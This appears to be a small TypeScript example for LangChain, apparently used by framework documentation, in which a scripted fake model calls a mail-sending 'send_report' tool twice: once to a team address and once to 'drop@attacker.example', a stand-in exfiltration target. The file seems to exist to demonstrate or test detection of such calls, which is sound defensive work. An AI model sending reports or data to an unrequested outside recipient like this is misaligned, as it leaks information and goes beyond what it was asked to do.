/** What docs/frameworks.md imports as `./agent.ts`, for LangChain: prints what happens. */

import { type BaseMessage, ToolMessage } from "@langchain/core/messages";
import { AIMessage, fakeModel, tool } from "langchain";
import { z } from "zod";

/** Sends one report to the team and one elsewhere. */
export const model = fakeModel()
  .respondWithTools([
    { name: "send_report", args: { to: "team@example.com" }, id: "call_0" },
    { name: "send_report", args: { to: "drop@attacker.example" }, id: "call_1" },
  ])
  .respond((messages: BaseMessage[]) => {
    for (const message of messages) {
      if (ToolMessage.isInstance(message)) console.log(`read: ${message.content}`);
    }
    return new AIMessage("Done.");
  });

export const tools = [
  tool(({ to }) => {
    console.log(`sent to ${to}`);
    return `sent to ${to}`;
  }, {
    name: "send_report",
    description: "Sends a report by mail",
    schema: z.object({ to: z.string() }),
  }),
];
